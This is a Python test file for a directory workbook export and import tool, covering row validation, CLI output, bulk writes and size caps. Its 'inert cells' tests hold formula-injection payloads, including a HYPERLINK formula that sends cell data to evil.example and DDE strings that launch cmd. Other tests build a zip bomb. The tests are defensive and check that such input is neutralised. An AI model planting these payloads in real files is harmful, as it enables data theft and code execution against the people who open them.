"""The directory workbook: export, edit, import back; all-or-nothing with every bad row named."""
from __future__ import annotations

import json
import time
from io import BytesIO

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from intake.store.audit import Actor, list_events
from intake.directory.workbook import export_directory, import_directory
from intake.exceptions import RowsRejected
from intake.store.models import AuditEvent, Leader, Liaison, Unit

ADMIN = Actor("user:admin")


def _book(data: bytes):
    return load_workbook(BytesIO(data))


def _save(book) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def _snapshot(session):
    session.expire_all()
    return ([(l.name, l.phone, l.title, l.active, l.reports_to_id) for l in
             session.query(Leader).order_by(Leader.id)],
            [(li.name, li.phone, li.leader_id, li.active) for li in
             session.query(Liaison).order_by(Liaison.id)],
            [(u.name, u.kind, u.phone, u.active) for u in session.query(Unit).order_by(Unit.id)],
            session.query(AuditEvent).count())


def test_export_writes_three_sheets_that_read_back(demo):
    book = _book(export_directory(demo))
    assert book.sheetnames == ["leaders", "liaisons", "units"]
    leaders = list(book["leaders"].iter_rows(values_only=True))
    assert leaders[0][:3] == ("姓名", "职务", "电话")
    assert ("王建国", "副局长", "+8613900000001") == leaders[1][:3]
    liaisons = list(book["liaisons"].iter_rows(values_only=True))
    assert {(r[0], r[4]) for r in liaisons[1:]} == {
        ("张伟", "+8613900000001"), ("刘芳", "+8613900000001"), ("陈明", "+8613900000002")}
    assert {r[:2] for r in book["units"].iter_rows(min_row=2, values_only=True)} == {
        ("城关镇卫生院", "乡镇卫生院"), ("县人民医院", "县直医疗卫生单位")}


def test_an_english_export_names_columns_kinds_and_flags_in_english_and_reads_back(demo):
    # Issue 19 item 3: the export follows its requester's language; an import reads either.
    before = _snapshot(demo)
    workbook = export_directory(demo, "en-US")
    book = _book(workbook)
    assert [c for c in next(book["units"].iter_rows(values_only=True))] == [
        "name", "kind", "phone", "active"]
    assert {r[1:4:2] for r in book["units"].iter_rows(min_row=2, values_only=True)} == {
        ("township", "yes"), ("county", "yes")}
    report = import_directory(demo, workbook, ADMIN)
    demo.commit()
    assert report.updated == {"leaders": 0, "liaisons": 0, "units": 0}
    assert _snapshot(demo) == before


def test_an_unedited_export_imports_as_no_change(demo):
    before = _snapshot(demo)
    report = import_directory(demo, export_directory(demo), ADMIN)
    demo.commit()
    assert report.created == {"leaders": 0, "liaisons": 0, "units": 0}
    assert report.updated == {"leaders": 0, "liaisons": 0, "units": 0}
    assert report.unchanged == {"leaders": 2, "liaisons": 3, "units": 2}
    assert _snapshot(demo) == before


def test_an_edited_workbook_updates_adds_reassigns_and_deactivates(demo):
    book = _book(export_directory(demo))
    leaders, liaisons, units = book["leaders"], book["liaisons"], book["units"]
    leaders["B3"] = "医政科主任"                    # 李红's title
    leaders["G3"] = "+8613900000001"               # 李红 reports to 王建国
    leaders.append(["赵敏", "科员", "13900000077", "", "否", "否", "", "是"])
    liaisons["E2"] = "13900000002"                 # 张伟 moves to 李红
    liaisons.append(["孙丽", "13600000088", "西街社区", "", "13900000077", "是"])
    county_row = next(c.row for c in units["A"] if c.value == "县人民医院")
    units[f"D{county_row}"] = "否"                 # 县人民医院 deactivated
    report = import_directory(demo, _save(book), ADMIN)
    demo.commit()
    assert report.created == {"leaders": 1, "liaisons": 1, "units": 0}
    assert report.updated == {"leaders": 1, "liaisons": 1, "units": 1}
    demo.expire_all()
    li = demo.query(Leader).filter_by(name="李红").one()
    assert li.title == "医政科主任" and li.reports_to.name == "王建国"
    zhang = demo.query(Liaison).filter_by(name="张伟").one()
    assert zhang.leader_id == li.id
    assert demo.query(Liaison).filter_by(name="孙丽").one().leader.name == "赵敏"
    assert demo.query(Unit).filter_by(name="县人民医院").one().active is False
    actions = [e.action for e in list_events(demo, "liaisons", zhang.id)]
    assert actions[-1] == "liaison.reassigned"


def test_bad_rows_are_all_named_and_nothing_changes(demo):
    before = _snapshot(demo)
    book = _book(export_directory(demo))
    book["leaders"]["B2"] = "改了但不应保存"            # a good edit, which must not stay
    book["leaders"].append(["坏号码", "", "12345", "", "", "", "", ""])          # row 4
    book["liaisons"].append(["孙丽", "13600000088", "", "", "13999999999", "是"])  # row 5
    book["liaisons"].append(["", "13600000099", "", "", "", "也许"])              # row 6
    book["units"].append(["南山乡卫生院", "hospital", "", "是"])                  # row 4
    book["units"].append(["县人民医院", "county", "", "是"])                     # row 5: repeated
    with pytest.raises(RowsRejected) as caught:
        import_directory(demo, _save(book), ADMIN)
    found = {(p.sheet, p.row, p.code) for p in caught.value.rows}
    assert found == {("leaders", 4, "phone_invalid"), ("liaisons", 5, "unknown_leader"),
                     ("liaisons", 6, "flag_invalid"), ("units", 4, "kind_unknown"),
                     ("units", 5, "row_repeated")}
    assert "leaders row 4 column phone" in str(caught.value.rows[0])
    assert _snapshot(demo) == before


def test_a_wrong_sheet_or_missing_column_is_refused_before_any_row(demo):
    book = _book(export_directory(demo))
    book["units"].title = "单位"
    with pytest.raises(RowsRejected) as caught:
        import_directory(demo, _save(book), ADMIN)
    assert {(p.sheet, p.code) for p in caught.value.rows} == {
        ("单位", "sheet_unknown"), ("units", "sheet_missing")}
    book = _book(export_directory(demo))
    book["liaisons"].delete_cols(2)  # the phone column
    with pytest.raises(RowsRejected) as caught:
        import_directory(demo, _save(book), ADMIN)
    assert [(p.sheet, p.row, p.column, p.code) for p in caught.value.rows] == [
        ("liaisons", 1, "phone", "column_missing")]
    with pytest.raises(RowsRejected) as caught:
        import_directory(demo, b"not a workbook", ADMIN)
    assert caught.value.rows[0].code == "file_unreadable"


def test_a_minimal_hand_made_workbook_with_english_headers_imports(db_session):
    book = Workbook()
    book.active.title = "leaders"
    book["leaders"].append(["name", "phone"])
    book["leaders"].append(["赵敏", 13900000077])  # typed as a number
    book.create_sheet("liaisons").append(["name", "phone", "leader_phone"])
    book["liaisons"].append(["孙丽", "13600000088", "13900000077"])
    book.create_sheet("units").append(["name", "kind"])
    report = import_directory(db_session, _save(book), ADMIN)
    assert report.created == {"leaders": 1, "liaisons": 1, "units": 0}
    assert db_session.query(Liaison).one().leader.phone == "+8613900000077"


def test_dry_run_reports_and_saves_nothing(demo):
    before = _snapshot(demo)
    book = _book(export_directory(demo))
    book["units"].append(["南山乡卫生院", "township", "", "是"])
    report = import_directory(demo, _save(book), ADMIN, dry_run=True)
    assert report.created["units"] == 1 and report.dry_run
    assert _snapshot(demo) == before


def test_the_commands_export_and_import(env, demo, tmp_path):
    from cli.main import main

    path = tmp_path / "directory.xlsx"
    runner = CliRunner()
    result = runner.invoke(main, ["directory", "export", str(path)])
    assert result.exit_code == 0, result.output
    book = load_workbook(path)
    book["units"].append(["南山乡卫生院", "township", "", "是"])
    book.save(path)
    dry = runner.invoke(main, ["directory", "import", str(path), "--dry-run", "--json"])
    assert dry.exit_code == 0, dry.output
    assert '"units": 1' in dry.output
    demo.expire_all()
    assert demo.query(Unit).filter_by(name="南山乡卫生院").count() == 0
    done = runner.invoke(main, ["directory", "import", str(path)])
    assert done.exit_code == 0 and "units: created 1" in done.output
    book["leaders"].append(["坏号码", "", "12345"])
    book.save(path)
    refused = runner.invoke(main, ["directory", "import", str(path)])
    assert refused.exit_code == 1
    assert refused.output == ("leaders row 4 column phone: not a valid phone number: '12345'\n"
                              "Error: 1 problem(s) in the file; nothing was imported\n")
    refused = runner.invoke(main, ["directory", "import", str(path), "--json"])
    assert refused.exit_code == 1
    assert json.loads(refused.output[:refused.output.rindex("}") + 1]) == {
        "error": {"code": "import_rejected",
                  "message": "1 problem(s) in the file; nothing was imported"},
        "problems": [{"sheet": "leaders", "row": 4, "column": "phone", "code": "phone_invalid",
                      "message": "not a valid phone number: '12345'"}]}


def test_a_new_superior_alone_counts_as_an_update(demo):
    book = _book(export_directory(demo))
    book["leaders"]["G3"] = "+8613900000001"  # 李红 reports to 王建国; nothing else changes
    report = import_directory(demo, _save(book), ADMIN)
    assert report.updated["leaders"] == 1 and report.unchanged["leaders"] == 1
    book["leaders"]["G2"] = "+8613900000002"  # and 王建国 to 李红: a loop, refused
    with pytest.raises(RowsRejected) as caught:
        import_directory(demo, _save(book), ADMIN)
    assert [(p.row, p.code) for p in caught.value.rows] == [(2, "reporting_cycle")]


# ---------------------------------------------------------------- issue 16 item 3: a short write
def _statements(engine):
    """Collect every SQL statement the engine sends, in order (a list filled as they go)."""
    from sqlalchemy import event

    sent: list[str] = []

    def collect(_conn, _cursor, statement, _parameters, _context, _executemany):
        sent.append(statement.lstrip().split(None, 1)[0].upper())

    event.listen(engine, "before_cursor_execute", collect)
    return sent, lambda: event.remove(engine, "before_cursor_execute", collect)


def _write_phase(sent: list[str]) -> list[str]:
    writes = [i for i, verb in enumerate(sent) if verb in ("INSERT", "UPDATE", "DELETE")]
    # Everything before the first write is a read (SQLite's BEGIN IMMEDIATE takes the lock).
    assert set(sent[:writes[0]]) <= {"SELECT", "BEGIN", "WITH"}, sent[:writes[0]]
    return sent[writes[0]:]


def test_an_import_checks_with_reads_then_writes_a_few_bulk_statements_whatever_its_size(
        session_factory, engine):
    """Item 3: the write lock is held for a few statements, not for one round trip per row."""
    from cli.bench_import import build_workbook

    counts = {}
    for rows in (100, 400):
        engine_rows = _empty_directory(engine)
        session = session_factory()
        sent, stop = _statements(engine)
        try:
            report = import_directory(session, build_workbook(rows), ADMIN)
            created = _write_phase(list(sent))
            sent.clear()
            updated_report = import_directory(session, build_workbook(rows, edition=1), ADMIN)
            updated = _write_phase(list(sent))
        finally:
            stop()
            session.close()
        assert sum(report.created.values()) == rows and engine_rows == 0
        assert updated_report.updated["leaders"] == rows // 5
        counts[rows] = (len(created), len(updated))
    # The same handful of statements for 100 rows as for 400: bulk, not per row.
    assert counts[100] == counts[400] and max(counts[400]) <= 15, counts
    with session_factory() as session:
        assert session.query(Liaison).count() == 400 - 400 // 5 - 400 // 20
        first = session.query(Liaison).order_by(Liaison.id).first()
        assert first.address == "地址1-0" and first.leader.phone == "+8613900000000"
        assert [e.action for e in list_events(session, "liaisons", first.id)] == [
            "liaison.created", "liaison.updated"]
        member = session.query(Leader).filter_by(phone="+8613900000011").one()
        assert member.reports_to.phone == "+8613900000010"


def _empty_directory(engine) -> int:
    from sqlalchemy import delete

    with engine.begin() as conn:
        for model in (AuditEvent, Liaison, Unit):
            conn.execute(delete(model))
        conn.execute(Leader.__table__.update().values(reports_to_id=None))
        conn.execute(delete(Leader))
        return conn.execute(select(func.count()).select_from(Liaison)).scalar()


def test_an_import_checks_again_if_the_directory_changed_while_it_read(
        db_session, session_factory, monkeypatch):
    """Item 3: the write is a compare-and-set on the directory's change token."""
    from intake.directory import workbook as directory_workbook

    book = Workbook()
    book.active.title = "leaders"
    book["leaders"].append(["name", "phone"])
    book.create_sheet("liaisons").append(["name", "phone"])
    book.create_sheet("units").append(["name", "kind"])
    book["units"].append(["南山乡卫生院", "township"])
    real_plan, calls = directory_workbook._plan, []

    def plan_then_someone_adds_the_unit(*args):
        plan = real_plan(*args)
        calls.append(plan.report.created["units"])
        if len(calls) == 1:  # between the check and the write, an admin adds the same unit
            with session_factory() as other:
                from intake.directory.roster import add_unit
                from intake.statuses import UnitKind

                add_unit(other, "南山乡卫生院", UnitKind.COUNTY, ADMIN)
                other.commit()
        return plan

    monkeypatch.setattr(directory_workbook, "_plan", plan_then_someone_adds_the_unit)
    report = import_directory(db_session, _save(book), ADMIN)
    assert calls == [1, 0]  # checked again, under the lock: now an update, not a duplicate
    assert report.created["units"] == 0 and report.updated["units"] == 1
    db_session.expire_all()
    assert db_session.query(Unit).one().kind.value == "township"


# ---------------------------------------------------------------- issue 16 item 4: caps
def test_a_crafted_workbook_of_millions_of_blank_rows_is_refused_within_two_seconds(db_session):
    """Item 4: a 4,000,000-row dimension and 3 million blank rows, refused by the row cap."""
    from tests.workbook_support import crafted_directory

    data = crafted_directory(blank_rows=3_000_000)
    started = time.perf_counter()
    with pytest.raises(RowsRejected) as caught:
        import_directory(db_session, BytesIO(data), ADMIN)
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, elapsed
    assert [(p.sheet, p.code) for p in caught.value.rows] == [("leaders", "too_many_rows")]
    assert db_session.query(Leader).count() == 0


def test_a_huge_declared_dimension_alone_does_not_pad_the_rows(db_session):
    """Item 4: the dimension is ignored; the rows that are there are read, fast."""
    from tests.workbook_support import crafted_directory

    started = time.perf_counter()
    report = import_directory(db_session, crafted_directory(blank_rows=0), ADMIN)
    assert time.perf_counter() - started < 2.0
    assert report.created["leaders"] == 1


def test_a_file_over_the_size_cap_or_unpacking_past_it_is_refused_unread(db_session):
    """Item 4: at most one byte past the cap is read; a zip bomb is refused before inflating."""
    import zipfile

    from intake.store.spreadsheets import MAX_UNPACKED_BYTES, MAX_WORKBOOK_BYTES

    upload = BytesIO(b"PK" + b"\0" * (MAX_WORKBOOK_BYTES * 2))
    with pytest.raises(RowsRejected) as caught:
        import_directory(db_session, upload, ADMIN)
    assert caught.value.rows[0].code == "workbook_too_large"
    assert upload.tell() == MAX_WORKBOOK_BYTES + 1
    bomb = BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"\0" * (MAX_UNPACKED_BYTES + 1))
    assert len(bomb.getvalue()) < MAX_WORKBOOK_BYTES
    started = time.perf_counter()
    with pytest.raises(RowsRejected) as caught:
        import_directory(db_session, bomb.getvalue(), ADMIN)
    assert time.perf_counter() - started < 2.0
    assert [(p.sheet, p.code) for p in caught.value.rows] == [("(file)", "workbook_too_large")]


def test_the_command_refuses_a_crafted_or_oversized_file_with_its_code(env, db_session, tmp_path):
    """Item 4: the CLI reads within the same caps and names the code."""
    from cli.main import main
    from intake.store.spreadsheets import MAX_WORKBOOK_BYTES
    from tests.workbook_support import crafted_directory

    crafted = tmp_path / "crafted.xlsx"
    crafted.write_bytes(crafted_directory())
    started = time.perf_counter()
    result = CliRunner().invoke(main, ["directory", "import", str(crafted), "--json"])
    assert time.perf_counter() - started < 2.0
    assert result.exit_code == 1 and '"code": "too_many_rows"' in result.output
    big = tmp_path / "big.xlsx"
    big.write_bytes(b"\0" * (MAX_WORKBOOK_BYTES + 10))
    result = CliRunner().invoke(main, ["directory", "import", str(big), "--json"])
    assert result.exit_code == 1 and '"code": "workbook_too_large"' in result.output


# ---------------------------------------------------------------- issue 16 item 7: inert cells
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_a_formula_like_name_is_written_as_text_and_imports_back_unchanged(demo):
    """Item 7: every cell starting =, +, -, @ is a text cell; the export imports back exactly."""
    import zipfile

    liaison = demo.query(Liaison).filter_by(name="张伟").one()
    liaison.name, liaison.address = FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"
    unit = demo.query(Unit).filter_by(name="县人民医院").one()
    unit.name = "+1+cmd|' /C calc'!A0"
    demo.query(Leader).filter_by(name="李红").one().title = "-2+3"
    demo.commit()
    before = _snapshot(demo)
    data = export_directory(demo)
    with zipfile.ZipFile(BytesIO(data)) as archive:
        sheets = "".join(archive.read(name).decode() for name in archive.namelist()
                         if name.startswith("xl/worksheets/"))
    assert "<f>" not in sheets  # no formula anywhere in the file
    book = _book(data)
    written = {c.value: c for sheet in book for row in sheet.iter_rows() for c in row}
    for text in (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3"):
        assert written[text].data_type == "s" and written[text].quotePrefix, text
    assert not written["张伟" if "张伟" in written else "刘芳"].quotePrefix
    report = import_directory(demo, data, ADMIN)
    assert report.updated == {"leaders": 0, "liaisons": 0, "units": 0}
    assert _snapshot(demo) == before
    assert demo.query(Liaison).filter_by(phone=liaison.phone).one().name == FORMULA


def test_the_import_bench_prints_the_imports_and_the_case_writes_during_them():
    """Item 3: `dutyline bench import` measures; a small run on a fresh SQLite file."""
    import json

    from cli.main import main

    result = CliRunner().invoke(main, ["bench", "import", "--rows", "200", "--json"])
    assert result.exit_code == 0, result.output
    figures = json.loads(result.output)
    assert [run["kind"] for run in figures["imports"]] == ["create", "update"]
    assert figures["imports"][0]["summary"].startswith("leaders 40 new / 0 changed")
    assert figures["imports"][1]["summary"].startswith("leaders 0 new / 40 changed")
    assert figures["baseline"]["count"] > 0 and figures["meets_target"]
    for run in figures["imports"]:
        assert run["writes"]["failed"] == 0 and run["seconds"] > 0
